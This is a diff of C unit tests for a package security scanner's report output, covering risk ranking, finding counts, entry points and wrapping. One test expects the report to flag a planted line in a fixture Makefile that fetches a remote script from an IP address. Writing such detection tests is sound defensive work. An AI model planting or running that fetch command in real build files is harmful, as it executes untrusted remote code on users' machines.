@@ -49,9 +49,15 @@ static void check_checklist(const char *name, const json_t *report)
         assert_non_null(aq_json_str(row, "risk"));
         assert_true(strlen(aq_json_str(row, "text")) > 0);
     }
-    /* The last line always says what the package is made of. */
-    row = json_array_get(list, n - 1);
+    /* There is always a line that says what the package is made of; behind it stands nothing but
+     * the stages that did not run. */
+    for (i = n - 1; i > 0 && strcmp(aq_json_str(json_array_get(list, i), "risk"), "share") != 0;)
+        i--;
+    row = json_array_get(list, i);
     assert_string_equal(aq_json_str(row, "risk"), "share");
+    assert_true(i + 2 >= n);
+    if (i + 1 < n)
+        assert_non_null(strstr(aq_json_str(json_array_get(list, n - 1), "text"), "Not checked: "));
     for (size_t w = 0; w < 3; w++) {
         static const char *const words[] = {"generated", "vendored", "minified"};
         if (!strstr(aq_json_str(row, "text"), words[w]))
@@ -67,10 +73,11 @@ static void checklists(void **state)
 
 static size_t risk_rank(const char *risk)
 {
-    static const char *const order[] = {"reject", "review", "unread", "look", "share"};
+    static const char *const order[] = {"reject", "review", "unread", "grave",
+                                        "look",   "starts", "share"};
     size_t i = 0;
 
-    while (i < 5 && strcmp(order[i], risk) != 0)
+    while (i < 7 && strcmp(order[i], risk) != 0)
         i++;
     return i;
 }
@@ -84,9 +91,11 @@ static void the_checklist_is_ranked(void **state)
     (void)state;
     json_array_foreach (json_object_get(report, "checklist"), i, row) {
         size_t rank = risk_rank(aq_json_str(row, "risk"));
-        assert_true(rank < 5 && rank >= last);
+        if (strncmp(aq_json_str(row, "text"), "Not checked: ", 13) == 0)
+            continue; /* said above already, so it comes last */
+        assert_true(rank < 7 && rank >= last);
         last = rank;
-        looks += rank == 3;
+        looks += rank == 3 || rank == 4;
     }
     assert_true(looks >= 1); /* a flood of findings leaves the planted line its place */
     row = json_array_get(json_object_get(report, "checklist"), 0);
@@ -95,10 +104,10 @@ static void the_checklist_is_ranked(void **state)
 
 static void check_width(const char *name, const json_t *report)
 {
-    static const unsigned widths[] = {40, 80, 132};
+    static const unsigned widths[] = {20, 31, 40, 80, 132};
 
-    for (size_t i = 0; i < 6; i++) {
-        aq_text_options o = {.width = widths[i % 3], .verbose = i >= 3};
+    for (size_t i = 0; i < 10; i++) {
+        aq_text_options o = {.width = widths[i % 5], .verbose = i >= 5};
         aq_auto_buf out = {0};
         unsigned column = 0;
         aq_report_text(report, &o, &out);
@@ -143,7 +152,7 @@ static void the_first_screen_has_the_planted_line(void **state)
     cut_at_line(&out, 24);
     assert_non_null(strstr(out.data, "INCONCLUSIVE"));
     assert_non_null(strstr(out.data, " share ")); /* the whole checklist is there */
-    look = strstr(out.data, " look ");
+    look = strstr(out.data, "\n grave ");
     assert_non_null(look);
     assert_non_null(strstr(look, "module-3141/Makefile:5"));
     assert_non_null(strstr(look, "curl -s http://203.0.113.9/i.sh"));
@@ -278,11 +287,52 @@ static void tiers(void **state)
     tier_is(AQ_TIER_STEWARD, AQ_CAP_CLOCK, NULL, "t0");
 }
 
+static const json_t *check_row(const json_t *report, const char *risk)
+{
+    const json_t *row;
+    size_t i;
+
+    json_array_foreach (json_object_get(report, "checklist"), i, row)
+        if (strcmp(aq_json_str(row, "risk"), risk) == 0)
+            return row;
+    return NULL;
+}
+
+static void in_text(const json_t *report, unsigned width, bool verbose, const char *want)
+{
+    aq_text_options o = {.width = width, .verbose = verbose};
+    aq_auto_buf out = {0};
+
+    aq_report_text(report, &o, &out);
+    if (!strstr(out.data, want))
+        fail_msg("“%s” is not in:\n%s", want, out.data);
+}
+
+static void not_in_text(const json_t *report, const char *never)
+{
+    aq_text_options o = {.width = 80};
+    aq_auto_buf out = {0};
+
+    aq_report_text(report, &o, &out);
+    if (strstr(out.data, never))
+        fail_msg("“%s” is in:\n%s", never, out.data);
+}
+
+static void in_html(const json_t *report, const char *want, bool there)
+{
+    aq_auto_buf out = {0};
+
+    aq_report_html(report, &out);
+    if ((strstr(out.data, want) != NULL) != there)
+        fail_msg("“%s” is %sin the HTML", want, there ? "not " : "");
+}
+
 static void unread_is_on_the_list(void **state)
 {
     aq_auto_arena a = aq_arena_new();
     aq_auto_json json_t *report = NULL;
-    const aq_unread unread = {.place = "big.bin", .reason = "budget unpacked-bytes", .bytes = 9};
+    const aq_unread unread = {
+        .place = "big.bin", .reason = "budget unpacked-bytes", .bytes = 315000000};
     const json_t *row;
     sample s;
 
@@ -297,6 +347,165 @@ static void unread_is_on_the_list(void **state)
     assert_string_equal(aq_json_str(row, "file"), "big.bin");
     row = json_array_get(json_object_get(report, "checklist"), 1);
     assert_string_equal(aq_json_str(row, "risk"), "unread");
+    assert_string_equal(aq_json_str(row, "file"), "half.gz");
+    in_text(report, 120, false, "5 files, 315 MB; 1 of them (315 MB) was not read");
+    in_text(report, 80, false, "not read      big.bin: budget unpacked-bytes");
+}
+
+/* What a finding has said is not said again, neither by the place nor among the facts. */
+static void no_fact_is_told_twice(void **state)
+{
+    aq_auto_arena a = aq_arena_new();
+    aq_auto_json json_t *one = NULL, *two = NULL;
+    const aq_unread unread = {.place = "a/b.py", .reason = "stands there twice", .bytes = 9};
+    sample s;
+
+    (void)state;
+    sample_plain(a, &s);
+    s.package.unread = &unread;
+    s.package.unread_count = 1;
+    aq_findings_add(s.findings, sample_rule(AQ_REJECT, 0), "a/b.py", "stands there twice.");
+    one = sample_finish(&s);
+    assert_string_equal(aq_json_str(check_row(one, "unread"), "text"),
+                        "Not checked: L1 static analysis, L1.5 bundle composition, L2 content "
+                        "scan, L3 quarantine");
+    assert_non_null(strstr(aq_json_str(check_row(one, "reject"), "text"), ": Stands there twice"));
+    not_in_text(one, "not read      ");
+    sample_plain(a, &s); /* the same as an unfinished finding of no severity */
+    s.package.unread = &unread;
+    s.package.unread_count = 1;
+    aq_findings_add_incomplete(s.findings, sample_rule(AQ_INFO, 0), "a/b.py", "too large");
+    two = sample_finish(&s);
+    assert_string_equal(aq_json_str(json_array_get(json_object_get(two, "checklist"), 0), "text"),
+                        "Not read (9 bytes): stands there twice");
+    assert_string_equal(aq_json_str(json_array_get(json_object_get(two, "checklist"), 1), "risk"),
+                        "share");
+}
+
+/* Every finding is counted, listed or not; a budget that nobody counts is not shown as unspent. */
+static void counts_are_true(void **state)
+{
+    aq_auto_arena a = aq_arena_new();
+    aq_auto_json json_t *report = NULL;
+    const json_t *row;
+    size_t i;
+    sample s;
+
+    (void)state;
+    sample_plain(a, &s);
+    for (i = 0; i < 302; i++)
+        aq_findings_add(s.findings, sample_rule(AQ_REVIEW, 0), "a", "number %zu", i);
+    report = sample_finish(&s);
+    in_text(report, 80, false, "\n 303 findings (101 listed)\n");
+    in_text(report, 80, false, "and 283 more, 81 of them in the whole list (--verbose)");
+    in_text(report, 80, true, "and 202 more of this rule");
+    in_text(report, 80, false, "302 things to look at, first: ");
+    json_array_foreach (json_object_get(json_object_get(report, "coverage"), "budgets"), i, row)
+        assert_null(strstr("file-bytes ratio depth path-bytes document-nodes findings",
+                           aq_json_str(row, "name")));
+    assert_int_equal(i, 4);
+    in_html(report, "bytes of one file", false);
+    in_html(report, "files and folders in the package", true);
+}
+
+static void a_review_is_in_the_headline(void **state)
+{
+    aq_auto_arena a = aq_arena_new();
+    aq_auto_json json_t *one = NULL, *plain = sample_report("plain"),
+                        *planted = sample_report("planted");
+    sample s;
+
+    (void)state;
+    sample_plain(a, &s);
+    aq_findings_add(s.findings, AQ_RULE_L0_NAME_MIXED, NULL, "mixed");
+    one = sample_finish(&s);
+    in_text(one, 100, false,
+            " 1 thing to look at: Name mixes scripts. Also, L1, L1.5, L2 and L3 did not run.\n");
+    not_in_text(plain, "to look at");
+    not_in_text(plain, "Look at sort-notes");
+    in_text(planted, 200, false, " Look at modules/group-31/module-3141/Makefile:5 first.");
+    in_html(planted, " Look at modules/group-31/module-3141/Makefile:5 first.", true);
+    in_html(planted, "<span class=\"pill grave\">grave</span>", true);
+    in_html(plain, "pill grave", false);
+}
+
+static void what_runs_by_itself_is_told(void **state)
+{
+    aq_entry_point entries[] = {
+        {.role = "cli", .command = "bin/tool", .file = "x.json", .line = 3},
+        {.role = "hook:PostToolUse", .command = "hooks/note.sh", .file = "x.json", .line = 7},
+        {.role = "postinstall", .command = "node a.js", .file = "x.json", .line = 8},
+        {.role = "mcp:http", .command = "https://x.example/", .file = "x.json", .line = 9},
+    };
+    aq_auto_arena a = aq_arena_new();
+    aq_auto_json json_t *report = NULL, *plain = sample_report("plain");
+    const json_t *row;
+    sample s;
+
+    (void)state;
+    sample_plain(a, &s);
+    s.manifest.entry_points = entries;
+    s.manifest.entry_point_count = 4;
+    report = sample_finish(&s);
+    row = check_row(report, "starts");
+    assert_string_equal(aq_json_str(row, "text"),
+                        "Runs by itself after a tool is used (PostToolUse): hooks/note.sh");
+    assert_int_equal(aq_json_int(row, "line", 0), 7);
+    in_text(report, 100, false, "2 more things run by themselves; next: node a.js");
+    in_text(report, 100, false, "starts        Has an entry point (cli): bin/tool");
+    in_text(report, 100, false, "starts        Connects by itself to an MCP server: https://x");
+    in_text(report, 100, false, "declares      filesystem.read: ~/notes/**");
+    in_html(report, "after a tool is used (PostToolUse)</bdi>: <code>hooks/note.sh</code>", true);
+    assert_null(check_row(plain, "starts"));
+    in_text(plain, 80, false, "starts        nothing that its manifest names");
+    in_text(plain, 80, false, "sandbox       T1 (container) would be needed: it declares that");
+    in_text(plain, 80, false, "input         sort-notes");
+    in_html(plain, "Agent Skill, from <code>sort-notes</code>", true);
+}
+
+/* Neither a reason nor a digest is ever cut. */
+static void reasons_and_digests_are_whole(void **state)
+{
+    static const char hex[] = "72000f03610082031986da24259c2333202f3e4a7a0174b6cf36d85854533a9a";
+    static const char why[] =
+        "mentions “one”, “two” and “three”: could do this, and could do that, and could do a "
+        "great many other things that a reader wants to know about before anything else, all of it";
+    aq_auto_arena a = aq_arena_new();
+    aq_auto_json json_t *report = NULL;
+    sample s;
+
+    (void)state;
+    sample_plain(a, &s);
+    aq_findings_add(s.findings, sample_rule(AQ_REJECT, 0), NULL,
+                    "The envelope was made for the bytes with SHA-256 %s, the artifact has %s", hex,
+                    hex);
+    for (size_t i = 0; i < 3; i++)
+        s.survey.looks[i] = (aq_look){.file = "SKILL.md",
+                                      .line = (uint32_t)i + 1,
+                                      .weight = 40,
+                                      .in_file = 8,
+                                      .why = why,
+                                      .text = "the line itself"};
+    s.survey.look_count = 3;
+    report = sample_finish(&s);
+    for (unsigned width = 30; width <= 130; width += 10) {
+        aq_text_options o = {.width = width};
+        aq_auto_buf out = {0}, flat = {0};
+        size_t found = 0;
+        aq_report_text(report, &o, &out);
+        for (const char *p = out.data; *p; p++)
+            if (*p != ' ' && *p != '\n')
+                aq_buf_addc(&flat, *p);
+        for (const char *p = aq_buf_str(&flat); (p = strstr(p, hex)); p++)
+            found++;
+        assert_int_equal(found, 4); /* twice in the checklist, twice in the list */
+        found = 0;
+        for (const char *p = aq_buf_str(&flat); (p = strstr(p, "anythingelse,allofit")); p++)
+            found++;
+        assert_int_equal(found, 3);
+        assert_non_null(strstr(flat.data, "and5morelinesinSKILL.md"));
+    }
+    in_html(report, "and 5 more lines in SKILL.md", true);
 }
 
 int main(void)
@@ -314,6 +523,11 @@ int main(void)
         cmocka_unit_test(fingerprints_differ_and_stay),
         cmocka_unit_test(tiers),
         cmocka_unit_test(unread_is_on_the_list),
+        cmocka_unit_test(no_fact_is_told_twice),
+        cmocka_unit_test(counts_are_true),
+        cmocka_unit_test(a_review_is_in_the_headline),
+        cmocka_unit_test(what_runs_by_itself_is_told),
+        cmocka_unit_test(reasons_and_digests_are_whole),
     };
 
     return cmocka_run_group_tests_name("report", tests, NULL, NULL);
